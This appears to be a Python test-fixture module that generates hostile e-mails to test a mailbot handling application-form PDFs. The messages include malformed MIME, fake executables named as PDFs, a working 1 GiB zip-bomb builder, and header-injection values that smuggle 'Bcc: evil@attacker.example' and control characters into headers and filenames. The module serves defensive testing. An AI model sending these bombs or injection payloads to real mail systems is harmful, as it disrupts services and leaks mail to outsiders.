"""Hostile mail, made by code at test time: nothing big or binary lives in the repository.

Each builder returns the raw bytes of one message as a company's (or an
attacker's) mailer would hand it to the program mailbox. The PDFs inside are
those of tests/forms/hostile.py (bombs, encryption, JavaScript, 5,000 pages),
or the sample application form itself where the hostile part is the mail
around it. Sizes are parameters so a test can say what it made.
"""

from __future__ import annotations

import base64
import os
import struct
import zlib
from urllib.parse import quote

from mailbot.forms.fill import sample_values
from mailbot.samples import application_mail
from tests.forms import hostile as pdfs

SENDER = "yamada@hostile-shoji.example.co.jp"
PROGRAM = "chizai@example.jp"
MB = 1024 * 1024

#: What an attacker hides in a header: a line break that would start a header of its own.
INJECTED = "Bcc: evil@attacker.example"


def contact_email() -> str:
    """The contact e-mail written in the sample form: a receipt goes there too."""
    return sample_values()["contact_email"]


def with_pdf(pdf: bytes, filename: str = "申請書.pdf", sender: str = SENDER) -> bytes:
    """An ordinary application mail carrying ``pdf``."""
    return application_mail(pdf, sender=sender, sender_name="山田 太郎", filename=filename)


def _head(*lines: str, sender: str = SENDER) -> str:
    return "\r\n".join([f"From: {sender}", f"To: {PROGRAM}", "Subject: =?UTF-8?B?55Sz6KuL5pu4?=",
                        "Date: Fri, 27 Nov 2026 09:00:00 +0900", "Message-ID: <hostile.1@example.co.jp>",
                        "MIME-Version: 1.0", *lines])


def _b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii").replace("\n", "\r\n")


# --- malformed MIME -------------------------------------------------------------------


def broken_boundary() -> bytes:
    """multipart/mixed declares one boundary, the parts are cut by another: no part is seen."""
    head = _head('Content-Type: multipart/mixed; boundary="declared-boundary"')
    body = ("--other-boundary\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n申請書を送ります。\r\n"
            "--other-boundary\r\nContent-Type: application/pdf; name=\"a.pdf\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + _b64(pdfs.form()) + "--other-boundary--\r\n")
    return (head + "\r\n\r\n" + body).encode("utf-8")


def cut_mid_attachment() -> bytes:
    """The PDF's base64 stops half-way and the closing boundary never comes (a cut-off upload)."""
    head = _head('Content-Type: multipart/mixed; boundary="b1"')
    encoded = _b64(pdfs.form())
    body = ("--b1\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n申請書を送ります。\r\n"
            "--b1\r\nContent-Type: application/pdf; name=\"shinsei.pdf\"\r\n"
            "Content-Disposition: attachment; filename=\"shinsei.pdf\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + encoded[: len(encoded) // 2])
    return (head + "\r\n\r\n" + body).encode("utf-8")


def bad_base64() -> bytes:
    """The PDF part's base64 has characters outside the alphabet and a broken padding."""
    head = _head('Content-Type: multipart/mixed; boundary="b1"')
    garbled = "!!!%%%" + _b64(pdfs.form())[5:].replace("A", "*") + "==="
    body = ("--b1\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n申請書です。\r\n"
            "--b1\r\nContent-Type: application/pdf; name=\"shinsei.pdf\"\r\n"
            "Content-Disposition: attachment; filename=\"shinsei.pdf\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + garbled + "\r\n--b1--\r\n")
    return (head + "\r\n\r\n" + body).encode("utf-8")


def nested(depth: int = 100) -> bytes:
    """The application PDF inside ``depth`` levels of multipart/mixed."""
    inner = ("Content-Type: application/pdf; name=\"shinsei.pdf\"\r\n"
             "Content-Disposition: attachment; filename=\"shinsei.pdf\"\r\n"
             "Content-Transfer-Encoding: base64\r\n\r\n" + _b64(pdfs.form()))
    for level in range(depth):
        inner = (f'Content-Type: multipart/mixed; boundary="level{level}"\r\n\r\n'
                 f"--level{level}\r\n{inner}\r\n--level{level}--\r\n")
    return (_head() + "\r\n" + inner).encode("utf-8")


def no_from() -> bytes:
    """A mail with a PDF and every header but From: nobody to answer."""
    return b"\r\n".join(line for line in with_pdf(pdfs.form()).split(b"\r\n")
                        if not line.lower().startswith(b"from:"))


def no_headers() -> bytes:
    """Only a body: the first line is not a header field."""
    return "申請書を送ります。よろしくお願いします。\r\n山田\r\n".encode("utf-8")


def headers_only() -> bytes:
    """A header block and nothing after it: no blank line, no body."""
    return (_head("Content-Type: text/plain; charset=UTF-8") + "\r\n").encode("ascii")


# --- big and bombs --------------------------------------------------------------------


def big_attachment(size: int = 50 * MB) -> bytes:
    """A "PDF" of ``size`` bytes (a header, noise, an end marker) attached to an application mail."""
    data = b"%PDF-1.7\n" + os.urandom(size - 16) + b"\n%%EOF\n"
    return with_pdf(data, filename="申請書_高解像度.pdf")


def raw_deflate_zeros(prefix: bytes, size: int) -> tuple[bytes, int]:
    """Raw deflate data inflating to ``prefix`` then zeros up to ``size`` bytes, and its CRC-32.

    Full flushes make every 1 MiB of zeros compress to the same bytes: one
    segment is compressed once and repeated, so a 1 GiB member costs ~1 MB
    and well under a second to make.
    """
    chunk = bytes(MB)
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = z.compress(prefix) + z.flush(zlib.Z_FULL_FLUSH)
    segment = z.compress(chunk) + z.flush(zlib.Z_FULL_FLUSH)
    count = (size - len(prefix)) // MB
    crc = zlib.crc32(prefix)
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    return head + segment * count + b"\x03\x00", crc  # \x03\x00: an empty final block


def zip_bomb_archive(size: int = 1024 * MB, name: str = "申請書.pdf") -> bytes:
    """A zip whose one member, ``name``, starts like a PDF and inflates to ``size`` bytes."""
    prefix = b"%PDF-1.7\n"
    data, crc = raw_deflate_zeros(prefix, size)
    total = len(prefix) + (size - len(prefix)) // MB * MB
    encoded = name.encode("utf-8")
    # version 20, flag bit 11 (UTF-8 name), deflate, no time; sizes 32-bit (< 4 GiB)
    fields = struct.pack("<HHHHHIII", 20, 0x800, 8, 0, 0x21, crc, len(data), total)
    local = b"PK\x03\x04" + fields + struct.pack("<HH", len(encoded), 0) + encoded
    central = (b"PK\x01\x02" + struct.pack("<H", 20) + fields
               + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, 0) + encoded)
    offset = len(local) + len(data)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), offset, 0)
    return local + data + central + end


def zip_bomb() -> bytes:
    """An application mail whose attachment is 申請書類.zip holding a 1 GiB "申請書.pdf"."""
    from mailbot.samples import attachment_mail

    return attachment_mail(zip_bomb_archive(), "申請書類.zip", "application", "zip", sender=SENDER)


def elf_executable() -> bytes:
    """A Linux executable's first bytes (the ELF header, then noise): saved as 申請書.pdf by the tests."""
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 62, 1) + os.urandom(4000)


def pe_executable() -> bytes:
    """A Windows executable's first bytes (MZ, the DOS stub's message, PE): saved as 申請書.pdf by the tests."""
    stub = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\x00\x00" + os.urandom(4000)
    return stub + b"This program cannot be run in DOS mode.\r\n"


# --- hostile headers ------------------------------------------------------------------


def encoded_word(text: str) -> str:
    """``text`` as an RFC 2047 encoded word: the way a mailer hides a line break in a header."""
    return f"=?UTF-8?B?{base64.b64encode(text.encode('utf-8')).decode('ascii')}?="


#: Control characters besides CR/LF: NUL, BEL, ESC, DEL, NEL, LINE SEPARATOR.
CONTROLS = "\x00\x07\x1b\x7f\x85\u2028"


def control_characters(data: bytes | None = None, extension: str = ".pdf") -> bytes:
    """A file (the application form unless ``data``), with CR/LF and control characters in From's
    name, Subject, Message-ID and the file's name (hidden in encoded words, a bare CR, RFC 2231)."""
    name = encoded_word(f"山田\r\n{INJECTED}{CONTROLS}太郎")
    subject = encoded_word(f"申請書\r\n{INJECTED}\r\n\r\n本文{CONTROLS}") + "\rX-Injected: bare-cr"
    filename = quote(f"申請\r\n{INJECTED}{CONTROLS}書{extension}", safe="")
    kind = "application/pdf" if extension == ".pdf" else "application/octet-stream"
    head = "\r\n".join([
        f"From: {name} <{SENDER}>", f"To: {PROGRAM}", f"Subject: {subject}",
        "Date: Fri, 27 Nov 2026 09:00:00 +0900",
        "Message-ID: <ctl\x01\x1b\x7f.1@hostile-shoji.example.co.jp>",
        "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="b1"'])
    body = ("--b1\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n申請書\x07を送ります。\r\n"
            f"--b1\r\nContent-Type: {kind}\r\n"
            f"Content-Disposition: attachment; filename*=UTF-8''{filename}\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + _b64(data or pdfs.form()) + "--b1--\r\n")
    return (head + "\r\n\r\n").encode("ascii") + body.encode("utf-8")


def many_recipients(count: int = 10_000) -> bytes:
    """The application form sent To: ``count`` addresses (one header of ~300 KB, folded)."""
    mail = with_pdf(pdfs.form())
    addresses = ",\r\n ".join(f"member{n:05d}@list.hostile-shoji.example.co.jp" for n in range(count))
    head, blank, body = mail.partition(b"\r\n\r\n")
    lines = [line for line in head.split(b"\r\n") if not line.lower().startswith(b"to:")]
    return b"\r\n".join([*lines, b"To: " + addresses.encode("ascii")]) + blank + body
